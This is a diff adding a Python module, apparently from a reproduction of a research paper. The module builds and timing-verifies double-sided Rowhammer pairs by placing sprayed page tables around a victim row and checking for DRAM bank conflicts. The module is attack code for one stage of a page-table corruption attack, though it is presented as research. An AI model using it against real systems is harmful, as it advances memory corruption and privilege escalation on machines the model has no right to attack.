@@ -1,0 +1,200 @@
+"""Double-sided pair construction and bank verification (Section IV-D).
+
+Step 1 — geometry: choose two sprayed slots whose virtual addresses
+differ by ``2 * RowsSize * 512`` bytes (256 MiB on the paper's
+machines).  Because the buddy allocator serves a burst of page-table
+allocations mostly consecutively, the slots' L1PTs are then highly
+likely ``2 * RowsSize`` bytes apart physically: same bank, two row
+indices apart, sandwiching one victim row.
+
+Step 2 — timing: verify the same-bank guess with the row-buffer
+conflict channel.  Alternating DRAM fetches of the two L1PTEs are slow
+(precharge + activate every time) when they share a bank and fast (row
+hits) when they do not.
+"""
+
+from repro.core.layout import PROBE_DATA_OFFSET
+from repro.core.timing_probe import FENCE_CYCLES
+from repro.params import SUPERPAGE_SIZE
+from repro.utils.rng import hash64
+from repro.utils.stats import median, percentile
+
+
+class CandidatePair:
+    """Two sprayed slots whose L1PTEs should sandwich a victim row."""
+
+    __slots__ = ("slot_a", "slot_b", "va_a", "va_b", "conflict_score")
+
+    def __init__(self, slot_a, slot_b, va_a, va_b):
+        self.slot_a = slot_a
+        self.slot_b = slot_b
+        self.va_a = va_a
+        self.va_b = va_b
+        self.conflict_score = None
+
+    def __repr__(self):
+        return "CandidatePair(slots=%d/%d, score=%s)" % (
+            self.slot_a,
+            self.slot_b,
+            self.conflict_score,
+        )
+
+
+def slot_stride_for_pairs(facts):
+    """Slot-index distance between pair members.
+
+    VA distance is ``2 * row_span * 512`` bytes; each slot covers 2 MiB
+    of VA, so the slot stride is that distance over 2 MiB.
+    """
+    va_stride, _ = facts.pair_stride_bytes()
+    return va_stride // SUPERPAGE_SIZE
+
+
+class PairFinder:
+    """Enumerates and timing-verifies double-sided candidate pairs."""
+
+    def __init__(self, attacker, facts, spray, tlb_builder, tlb_set_size):
+        self.attacker = attacker
+        self.facts = facts
+        self.spray = spray
+        self.tlb_builder = tlb_builder
+        self.tlb_set_size = tlb_set_size
+
+    def candidate_pairs(self, limit=None):
+        """Slot pairs at the pair stride, sampled across the whole spray.
+
+        Sampling evenly (rather than taking the lowest slots) keeps one
+        unlucky fragmented region of the spray from dominating the
+        candidate list.
+        """
+        stride = slot_stride_for_pairs(self.facts)
+        available = self.spray.slots - stride
+        if available <= 0:
+            return []
+        count = available if limit is None else min(limit, available)
+        step = max(1, available // count)
+        pairs = []
+        for slot in range(0, available, step):
+            pairs.append(
+                CandidatePair(
+                    slot,
+                    slot + stride,
+                    self.spray.target_va(slot),
+                    self.spray.target_va(slot + stride),
+                )
+            )
+            if len(pairs) >= count:
+                break
+        return pairs
+
+    def conflict_score(self, pair, llc_set_a, llc_set_b, rounds=6):
+        """Median latency of the pair's *second* walk per round.
+
+        Each round evicts both targets' TLB entries and L1PTE lines,
+        then times back-to-back accesses.  Only the second access is
+        scored: it immediately follows the first, so its DRAM fetch
+        row-conflicts exactly when the two L1PTEs share a bank on
+        different rows.  (The first access's latency is polluted by
+        whatever rows the eviction sweeps touched.)
+        """
+        attacker = self.attacker
+        tlb_a = self.tlb_builder.build(pair.va_a, self.tlb_set_size)
+        tlb_b = self.tlb_builder.build(pair.va_b, self.tlb_set_size)
+        samples = []
+        for _ in range(rounds):
+            for va in llc_set_a.lines:
+                attacker.touch(va)
+            for va in llc_set_b.lines:
+                attacker.touch(va)
+            for va in tlb_a:
+                attacker.touch(va)
+            for va in tlb_b:
+                attacker.touch(va)
+            attacker.nop(FENCE_CYCLES)  # serialise: a must reach DRAM itself
+            attacker.touch(pair.va_a + PROBE_DATA_OFFSET)
+            samples.append(attacker.timed_read(pair.va_b + PROBE_DATA_OFFSET))
+        pair.conflict_score = median(samples)
+        return pair.conflict_score
+
+    def conflict_level(self, pages=256, samples=200, seed=0x9A12):
+        """Calibrate the row-conflict latency on the attacker's own memory.
+
+        DRAMA-style: flush two random own lines, read them back to
+        back; for the ~1/banks fraction of pairs that share a bank on
+        different rows, the second read row-conflicts.  The high
+        percentile of the score distribution is therefore the conflict
+        level — no physical addresses needed.
+        """
+        attacker = self.attacker
+        base = attacker.mmap(pages, populate=True)
+        page_size = self.facts.page_size
+        scores = []
+        for i in range(samples):
+            va_a = base + (hash64(seed, 2 * i) % pages) * page_size
+            va_b = base + (hash64(seed, 2 * i + 1) % pages) * page_size
+            if va_a == va_b:
+                continue
+            attacker.clflush(va_a + PROBE_DATA_OFFSET)
+            attacker.clflush(va_b + PROBE_DATA_OFFSET)
+            attacker.nop(FENCE_CYCLES)
+            attacker.touch(va_a + PROBE_DATA_OFFSET)
+            scores.append(attacker.timed_read(va_b + PROBE_DATA_OFFSET))
+        return percentile(scores, 0.98)
+
+    def search_pairs_by_timing(
+        self, llc_set_for, conflict_level, slot_sample=24, anchors=4, seed=0xA17C
+    ):
+        """Timing-guided pair search for bank-hashed DRAM (extension).
+
+        The blind VA-stride construction assumes adding ``2*RowsSize``
+        to a physical address stays in the same bank; DRAMA-style XOR
+        rank-mirroring breaks that.  The fallback is the same move the
+        DRAMA paper makes: probe slot pairs *by timing alone*, keeping
+        those whose alternating walks row-conflict.  Quadratic in the
+        sample, so a few anchor slots are each scored against a sample
+        of partners.
+
+        Returns verified :class:`CandidatePair` objects (no row-distance
+        guarantee — hammering such pairs may single-side a victim, which
+        is weaker but still disturbs; the stride construction remains
+        strictly better when the plain mapping holds).
+        """
+        rng_offset = hash64(seed) % max(1, self.spray.slots)
+        anchor_slots = [
+            (rng_offset + i * (self.spray.slots // max(1, anchors)))
+            % self.spray.slots
+            for i in range(anchors)
+        ]
+        found = []
+        threshold = conflict_level - 10.0
+        for anchor in anchor_slots:
+            va_a = self.spray.target_va(anchor)
+            for j in range(slot_sample):
+                partner = (
+                    anchor + 1 + (hash64(seed, anchor, j) % (self.spray.slots - 1))
+                ) % self.spray.slots
+                if partner == anchor:
+                    continue
+                pair = CandidatePair(
+                    anchor, partner, va_a, self.spray.target_va(partner)
+                )
+                score = self.conflict_score(
+                    pair, llc_set_for(pair.va_a), llc_set_for(pair.va_b)
+                )
+                if score >= threshold:
+                    found.append(pair)
+        return found
+
+    @staticmethod
+    def split_by_conflict(pairs, conflict_level, tolerance=10.0):
+        """Partition scored pairs into (same-bank, different-bank).
+
+        A pair whose score reaches the calibrated row-conflict level
+        (within tolerance — walks add a few cycles either way) has
+        row-conflicting L1PTEs: same bank, different rows.
+        """
+        threshold = conflict_level - tolerance
+        scored = [p for p in pairs if p.conflict_score is not None]
+        same_bank = [p for p in scored if p.conflict_score >= threshold]
+        different = [p for p in scored if p.conflict_score < threshold]
+        return same_bank, different
